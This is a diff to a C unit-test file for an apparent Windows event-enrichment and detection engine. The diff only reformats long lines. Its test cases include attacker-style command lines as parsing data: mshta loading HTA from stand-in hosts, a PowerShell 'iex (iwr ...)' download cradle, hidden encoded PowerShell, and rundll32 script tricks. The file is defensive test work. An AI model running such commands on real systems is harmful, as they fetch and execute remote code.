@@ -177,7 +177,8 @@ static void test_motw_merge(void **state)
     /* A URL with a registrable domain, case-insensitive path match. */
     mk(&ev, SYSMON, 15, 1005, "H", "TargetFilename",
        "C:\\Users\\s\\Downloads\\Invoice.pdf.js:Zone.Identifier", "Contents",
-       "[ZoneTransfer]  ZoneId=3  HostUrl=https://Files.Evil-Example.co.uk:8443/d/Invoice.pdf.js?x=1 ",
+       "[ZoneTransfer]  ZoneId=3  "
+       "HostUrl=https://Files.Evil-Example.co.uk:8443/d/Invoice.pdf.js?x=1 ",
        NULL);
     assert_int_equal(lw_enrich_event(en, &ev), LW_OK);
     expect(&ev, "HostUrl.host", "files.evil-example.co.uk");
@@ -189,8 +190,8 @@ static void test_motw_merge(void **state)
 
     /* The executed file carries its Mark of the Web. */
     mk(&ev, SYSMON, 1, 2000, "H", "Image", "C:\\Users\\s\\Downloads\\WINX64_PAYLOAD.exe",
-       "ParentImage", "C:\\Windows\\explorer.exe", "ProcessGuid", "{1}", "ParentProcessGuid",
-       "{0}", "CommandLine", "\"C:\\Users\\s\\Downloads\\winx64_payload.exe\"", NULL);
+       "ParentImage", "C:\\Windows\\explorer.exe", "ProcessGuid", "{1}", "ParentProcessGuid", "{0}",
+       "CommandLine", "\"C:\\Users\\s\\Downloads\\winx64_payload.exe\"", NULL);
     assert_int_equal(lw_enrich_event(en, &ev), LW_OK);
     expect(&ev, "ImageZoneId", "3");
     expect(&ev, "ImageHostUrl", "http://10.0.5.13/winx64_payload.exe");
@@ -263,9 +264,11 @@ static void test_cmdline(void **state)
          "C:\\Users\\IEUser\\AppData\\Local\\Microsoft\\Windows\\Temporary Internet "
          "Files\\Content.IE5\\S97WTYG7\\update.hta",
          "file", NULL, false},
-        {"C:\\Windows\\SysWOW64\\mshta.exe", "mshta   http://evil.example/a.hta", "http://evil.example/a.hta",
-         "url", NULL, false},
-        {"mshta.exe", "MSHTA.EXE vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"calc\"\"\")(window.close)",
+        {"C:\\Windows\\SysWOW64\\mshta.exe", "mshta   http://evil.example/a.hta",
+         "http://evil.example/a.hta", "url", NULL, false},
+        {"mshta.exe",
+         "MSHTA.EXE vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run "
+         "\"\"calc\"\"\")(window.close)",
          "vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"calc\"\"\")(window.close)",
          "inline", NULL, false},
         /* wscript / cscript */
@@ -279,7 +282,8 @@ static void test_cmdline(void **state)
          "C:\\Users\\u\\AppData\\Local\\Temp\\Temp1_doc.zip\\doc.vbs", "file", NULL, false},
         /* powershell */
         {"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
-         "powershell.exe -NoP -ExecutionPolicy Bypass -W Hidden -File \"C:\\Users\\u\\Downloads\\x y.ps1\"",
+         "powershell.exe -NoP -ExecutionPolicy Bypass -W Hidden -File \"C:\\Users\\u\\Downloads\\x "
+         "y.ps1\"",
          "C:\\Users\\u\\Downloads\\x y.ps1", "file", NULL, false},
         {"powershell.exe", "powershell /ep bypass /f C:\\a.ps1", "C:\\a.ps1", "file", NULL, false},
         {"powershell.exe", "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A", NULL, NULL,
@@ -288,15 +292,18 @@ static void test_cmdline(void **state)
         {"C:\\Program Files\\PowerShell\\7\\pwsh.exe",
          "pwsh -c \"iex (iwr 'https://raw.example.net/s.ps1' -UseBasicParsing)\"",
          "https://raw.example.net/s.ps1", "url", NULL, false},
-        {"powershell.exe", "powershell.exe \xe2\x80\x93" "File C:\\x\\dash.ps1", "C:\\x\\dash.ps1",
-         "file", NULL, false},
+        {"powershell.exe",
+         "powershell.exe \xe2\x80\x93"
+         "File C:\\x\\dash.ps1",
+         "C:\\x\\dash.ps1", "file", NULL, false},
         {"powershell.exe", "powershell C:\\x\\pos.ps1", "C:\\x\\pos.ps1", "file", NULL, false},
         {"powershell.exe", "powershell -NoProfile", NULL, NULL, NULL, false},
         /* cmd */
         {"C:\\Windows\\System32\\cmd.exe", "cmd.exe /c \"C:\\Users\\u\\Downloads\\run me.bat\"",
          "C:\\Users\\u\\Downloads\\run me.bat", "file", NULL, false},
         {"C:\\Windows\\System32\\cmd.exe",
-         "C:\\Windows\\system32\\cmd.exe /d /s /c start \"\" /min \"C:\\Users\\u\\AppData\\Local\\Temp\\a.exe\"",
+         "C:\\Windows\\system32\\cmd.exe /d /s /c start \"\" /min "
+         "\"C:\\Users\\u\\AppData\\Local\\Temp\\a.exe\"",
          "C:\\Users\\u\\AppData\\Local\\Temp\\a.exe", "file", NULL, false},
         {"cmd.exe", "cmd /C mshta http://bad.example/x.hta", "http://bad.example/x.hta", "url",
          NULL, false},
@@ -317,7 +324,8 @@ static void test_cmdline(void **state)
          "C:\\Users\\u\\Downloads\\a.exe", "file", "ShellExec_RunDLL", false},
         {"rundll32.exe", "rundll32 zipfldr.dll,RouteTheCall calc.exe", "calc.exe", "file",
          "RouteTheCall", false},
-        {"rundll32.exe", "rundll32.exe setupapi.dll,InstallHinfSection DefaultInstall 128 C:\\t\\x.inf",
+        {"rundll32.exe",
+         "rundll32.exe setupapi.dll,InstallHinfSection DefaultInstall 128 C:\\t\\x.inf",
          "C:\\t\\x.inf", "file", "InstallHinfSection", false},
         {"rundll32.exe", "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";alert(1)",
          "javascript:\"\\..\\mshtml,RunHTMLApplication \";alert(1)", "inline", NULL, false},
@@ -349,18 +357,23 @@ static void test_cmdline(void **state)
         {"hh.exe", "hh mk:@MSITStore:C:\\t\\a.chm::/x.htm", "C:\\t\\a.chm", "file", NULL, false},
         /* browsers */
         {"C:\\Program Files\\Internet Explorer\\iexplore.exe",
-         "\"C:\\Program Files\\Internet Explorer\\iexplore.exe\" C:\\Users\\IEUser\\Downloads\\update.html",
+         "\"C:\\Program Files\\Internet Explorer\\iexplore.exe\" "
+         "C:\\Users\\IEUser\\Downloads\\update.html",
          "C:\\Users\\IEUser\\Downloads\\update.html", "file", NULL, false},
         {"C:\\Program Files\\Internet Explorer\\iexplore.exe",
-         "\"C:\\Program Files\\Internet Explorer\\iexplore.exe\" SCODEF:1600 CREDAT:275470 /prefetch:2",
+         "\"C:\\Program Files\\Internet Explorer\\iexplore.exe\" SCODEF:1600 CREDAT:275470 "
+         "/prefetch:2",
          NULL, NULL, NULL, false},
         {"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
          "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" "
-         "https://github.com/gentilkiwi/mimikatz/releases/download/2.2.0-20210810-2/mimikatz_trunk.zip",
-         "https://github.com/gentilkiwi/mimikatz/releases/download/2.2.0-20210810-2/mimikatz_trunk.zip",
+         "https://github.com/gentilkiwi/mimikatz/releases/download/2.2.0-20210810-2/"
+         "mimikatz_trunk.zip",
+         "https://github.com/gentilkiwi/mimikatz/releases/download/2.2.0-20210810-2/"
+         "mimikatz_trunk.zip",
          "url", NULL, false},
         {"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
-         "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --type=renderer /prefetch:1",
+         "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --type=renderer "
+         "/prefetch:1",
          NULL, NULL, NULL, false},
         /* no image: argv[0] decides; unknown programs give nothing */
         {"", "mshta.exe https://a.example/", "https://a.example/", "url", NULL, false},
@@ -372,11 +385,11 @@ static void test_cmdline(void **state)
     char scratch[4096];
     for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
         lw_cmdline_info ci;
-        bool ok = lw_cmdline_target(S(cases[i].image), S(cases[i].cmd), scratch, sizeof scratch,
-                                    &ci);
+        bool ok =
+            lw_cmdline_target(S(cases[i].image), S(cases[i].cmd), scratch, sizeof scratch, &ci);
         if (ok != (cases[i].target != NULL))
-            fail_msg("case %zu (%s): found=%d target='%.*s'", i, cases[i].cmd, ok,
-                     (int)ci.target.n, ci.target.p);
+            fail_msg("case %zu (%s): found=%d target='%.*s'", i, cases[i].cmd, ok, (int)ci.target.n,
+                     ci.target.p);
         if (ok) {
             if (!lw_str_eq_c(ci.target, cases[i].target))
                 fail_msg("case %zu: target '%.*s', want '%s'", i, (int)ci.target.n, ci.target.p,
@@ -456,8 +469,7 @@ static void test_classify(void **state)
          LW_CLS_OFFICE},
         {"C:\\Users\\bob\\AppData\\Local\\Microsoft\\WindowsApps\\olk.exe", "mail_client", 0},
         {"C:\\Users\\bob\\AppData\\Local\\Thunderbird\\thunderbird.exe", "mail_client", 0},
-        {"C:\\Users\\bob\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe", "chat_client",
-         0},
+        {"C:\\Users\\bob\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe", "chat_client", 0},
         {"C:\\Users\\bob\\AppData\\Local\\slack\\app-4.33.90\\slack.exe", "chat_client", 0},
         {"C:\\Users\\bob\\AppData\\Local\\Discord\\app-1.0.9013\\Discord.exe", "chat_client", 0},
         {"C:\\Windows\\System32\\mshta.exe", "script_host", LW_CLS_LOLBIN},
@@ -530,8 +542,9 @@ static void test_ancestry_guid(void **state)
     expect(&ev, "CommandLineTarget", "C:\\Users\\bob\\Downloads\\a.ps1");
     proc1(en, &ev, 3000, "H", "{P}", "{K}", "40", "30", PS, CMD,
           "powershell -File C:\\Users\\bob\\Downloads\\a.ps1");
-    expect(&ev, "AncestorImages", "C:\\Windows\\System32\\cmd.exe|C:\\Users\\bob\\AppData\\Local\\"
-                                  "Google\\Chrome\\Application\\chrome.exe|C:\\Windows\\explorer.exe");
+    expect(&ev, "AncestorImages",
+           "C:\\Windows\\System32\\cmd.exe|C:\\Users\\bob\\AppData\\Local\\"
+           "Google\\Chrome\\Application\\chrome.exe|C:\\Windows\\explorer.exe");
     expect(&ev, "AncestorClasses", "browser,shell,desktop");
     expect(&ev, "AncestorIsBrowser", "true");
     expect(&ev, "AncestorIsMailClient", "false");
@@ -596,7 +609,9 @@ static void test_ancestry_pid(void **state)
     sec4688(en, &ev, 1000, "0x100", "0x10", OUT, "C:\\Windows\\explorer.exe", "outlook.exe");
     /* Child of outlook (pid 0x100). */
     sec4688(en, &ev, 2000, "0x200", "0x100", WS, OUT,
-            "wscript.exe C:\\Users\\bob\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\AB12\\a.js");
+            "wscript.exe "
+            "C:\\Users\\bob\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content."
+            "Outlook\\AB12\\a.js");
     expect(&ev, "AncestorIsMailClient", "true");
     expect(&ev, "GrandparentImage", "C:\\Windows\\explorer.exe");
     expect(&ev, "ParentImageClass", "mail_client");
@@ -618,7 +633,8 @@ static void test_ancestry_pid(void **state)
 
     /* A Sysmon 1 twin of a 4688 (same host, pid, image, time) shares the entry, and
      * Sysmon's decimal pid matches 4688's hex. */
-    sec4688(en, &ev, 7000, "0x500", "0x10", "C:\\Users\\bob\\AppData\\Local\\Programs\\Opera\\opera.exe",
+    sec4688(en, &ev, 7000, "0x500", "0x10",
+            "C:\\Users\\bob\\AppData\\Local\\Programs\\Opera\\opera.exe",
             "C:\\Windows\\explorer.exe", "opera.exe");
     uint64_t before = st.proc_inserts;
     mk(&ev, SYSMON, 1, 7001, "WS1", "ProcessGuid", "{O}", "ProcessId", "1280", "ParentProcessId",
@@ -629,7 +645,8 @@ static void test_ancestry_pid(void **state)
     assert_int_equal(st.proc_inserts, before + 1); /* the 4688 only */
     /* A 4688 child of that pid finds opera; a Sysmon child finds it by GUID. */
     sec4688(en, &ev, 8000, "0x600", "0x500", "C:\\Windows\\System32\\mshta.exe",
-            "C:\\Users\\bob\\AppData\\Local\\Programs\\Opera\\opera.exe", "mshta http://e.example/");
+            "C:\\Users\\bob\\AppData\\Local\\Programs\\Opera\\opera.exe",
+            "mshta http://e.example/");
     expect(&ev, "AncestorIsBrowser", "true");
     expect(&ev, "CommandLineTarget", "http://e.example/");
     expect(&ev, "CommandLineTarget.host", "e.example");
@@ -690,9 +707,9 @@ static void test_url_fields(void **state)
     mk(&ev, SYSMON, 22, 1000, "H", "QueryName", "10.0.5.13", NULL);
     assert_int_equal(lw_enrich_event(en, &ev), LW_OK);
     expect(&ev, "QueryName.registrable_domain", NULL);
-    mk(&ev, SYSMON, 1, 1000, "H", "ProcessGuid", "{c}", "Image",
-       "C:\\Windows\\System32\\curl.exe", "CommandLine",
-       "curl -o C:\\t\\a.exe \"hxxp\" https://dl.Example.com:8080/a/b.EXE?q=1#f", NULL);
+    mk(&ev, SYSMON, 1, 1000, "H", "ProcessGuid", "{c}", "Image", "C:\\Windows\\System32\\curl.exe",
+       "CommandLine", "curl -o C:\\t\\a.exe \"hxxp\" https://dl.Example.com:8080/a/b.EXE?q=1#f",
+       NULL);
     assert_int_equal(lw_enrich_event(en, &ev), LW_OK);
     expect(&ev, "CommandLineUrl", "https://dl.Example.com:8080/a/b.EXE?q=1#f");
     expect(&ev, "CommandLineUrl.host", "dl.example.com");
